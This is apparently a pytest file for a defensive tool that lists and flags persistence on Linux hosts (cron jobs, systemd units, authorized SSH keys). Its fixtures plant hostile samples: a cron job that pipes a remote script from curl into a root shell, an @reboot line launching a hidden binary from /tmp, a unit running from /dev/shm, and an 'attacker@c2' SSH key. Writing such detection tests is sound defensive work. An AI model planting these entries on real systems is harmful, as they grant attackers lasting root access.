"""list_persistence: entry parsing and flags, and run() over planted cron/unit/key files (mount namespace)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.tools.nsrun import run_with_mounts
from tools.base import ToolContext
from tools.hoststate.entries import entry_flags, parse_grep_z
from tools.hoststate.keys import parse_authorized_key
from tools.hoststate.persistence import classify
from tools.list_persistence import TOOL

CRON = """# m h dom mon dow user command
SHELL=/bin/sh

@reboot root /tmp/.x/kdevtmpfsi -B
*/5 * * * * root curl -fsSL http://203.0.113.9/a.sh | sh
"""
UNIT = """[Unit]
Description=System update agent
[Service]
ExecStart=/dev/shm/.d/agent --quiet
Restart=always
"""


def _keygen(path: Path, comment: str) -> tuple[str, str]:
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen (openssh-client) is not installed")
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)],
                   check=True)
    public = path.with_name(path.name + ".pub").read_text().strip()
    listed = subprocess.run(["ssh-keygen", "-l", "-E", "sha256", "-f", f"{path}.pub"],
                            capture_output=True, text=True, check=True).stdout.split()
    return public, listed[1]


def test_fingerprint_matches_ssh_keygen(tmp_path: Path) -> None:
    public, expected = _keygen(tmp_path / "k", "evil@box")
    key = parse_authorized_key(public)
    assert key is not None
    assert (key.key_type, key.fingerprint, key.comment) == ("ssh-ed25519", expected, "evil@box")
    assert key.options == ""
    with_options = parse_authorized_key(f'command="/tmp/x a",no-pty {public}')
    assert with_options is not None and with_options.options == 'command="/tmp/x a",no-pty'
    assert with_options.fingerprint == expected
    assert parse_authorized_key("ssh-ed25519 not-base64!") is None


@pytest.mark.parametrize(
    ("text", "flags"),
    [
        ("@reboot root /tmp/.x/kdevtmpfsi", ["@reboot", "runs_from_tmp", "hidden_path"]),
        ("*/5 * * * * root curl -fsSL http://x/a.sh | bash", ["download_exec"]),
        ("0 1 * * * root echo Zm9v | base64 -d > /dev/null", ["download_exec"]),
        ("17 * * * * root cd / && run-parts --report /etc/cron.hourly", []),
        ("ExecStart=/usr/bin/wget -q http://x", ["network_tool"]),
    ],
)
def test_entry_flags(text: str, flags: list[str]) -> None:
    assert entry_flags(text) == flags


def test_classify() -> None:
    assert classify("/etc/cron.d/.placeholder") is None
    assert classify("/etc/cron.d/x") == "cron"
    assert classify("/etc/cron.daily/logrotate") == "cron_script"
    assert classify("/home/bob/.ssh/authorized_keys2") == "authorized_key"
    assert classify("/etc/systemd/system/x.service") == "systemd"
    assert classify("/etc/systemd/system/x.conf") is None


def test_parse_grep_z_keeps_odd_names() -> None:
    out = b"/etc/cron.d/a:b\x001:x y\n/etc/cron.d/c\nd\x0012:z\n"
    assert [(e.path, e.line_no, e.text) for e in parse_grep_z(out)] == [
        ("/etc/cron.d/a:b", 1, "x y"), ("/etc/cron.d/c\nd", 12, "z")]


def test_run_on_this_machine(local_ctx: ToolContext) -> None:
    result = TOOL.run(TOOL.parse_args({}), local_ctx)
    assert result.commands[0].argv[0] == "find"
    assert all(not str(r["path"]).startswith("/lib/systemd/") for r in result.rows)
    kinds = {r["kind"] for r in result.rows}
    assert kinds <= {"cron", "cron_script", "systemd", "systemd_enabled", "rc_local", "ld_preload",
                     "profile_d", "authorized_key"}


def test_run_finds_planted_persistence(tmp_path: Path) -> None:
    cron_d = tmp_path / "cron.d"
    cron_d.mkdir()
    (cron_d / ".sysupdate").write_text(CRON)
    units = tmp_path / "systemd"
    units.mkdir()
    (units / "sysupdate.service").write_text(UNIT)
    root = tmp_path / "root"
    (root / ".ssh").mkdir(parents=True)
    public, fingerprint = _keygen(tmp_path / "attacker", "attacker@c2")
    (root / ".ssh" / "authorized_keys").write_text(f"# keys\n\n{public}\n")
    home = tmp_path / "home"
    (home / "bob" / ".ssh").mkdir(parents=True)
    (home / "bob" / ".ssh" / "authorized_keys").write_text(f"no-pty {public}\n")
    rows, notes = run_with_mounts(
        "list_persistence",
        {"only_flagged": True},
        [(cron_d, "/etc/cron.d"), (units, "/etc/systemd/system"), (root, "/root"), (home, "/home")],
    )
    got = {(r["kind"], r["path"], r["line_no"], r["flags"]) for r in rows}
    assert got == {
        ("cron", "/etc/cron.d/.sysupdate", 2, "recently_modified,hidden_path"),
        ("cron", "/etc/cron.d/.sysupdate", 4, "recently_modified,hidden_path,@reboot,runs_from_tmp"),
        ("cron", "/etc/cron.d/.sysupdate", 5, "recently_modified,hidden_path,download_exec"),
        ("systemd", "/etc/systemd/system/sysupdate.service", 4,
         "recently_modified,runs_from_tmp,hidden_path"),
        ("authorized_key", "/root/.ssh/authorized_keys", 3, "recently_modified"),
        ("authorized_key", "/home/bob/.ssh/authorized_keys", 1, "recently_modified,key_options"),
    }
    keys = [r for r in rows if r["kind"] == "authorized_key"]
    assert {(r["key_type"], r["key_fingerprint"], r["key_comment"]) for r in keys} == {
        ("ssh-ed25519", fingerprint, "attacker@c2")}
    assert all(isinstance(n, str) for n in notes)
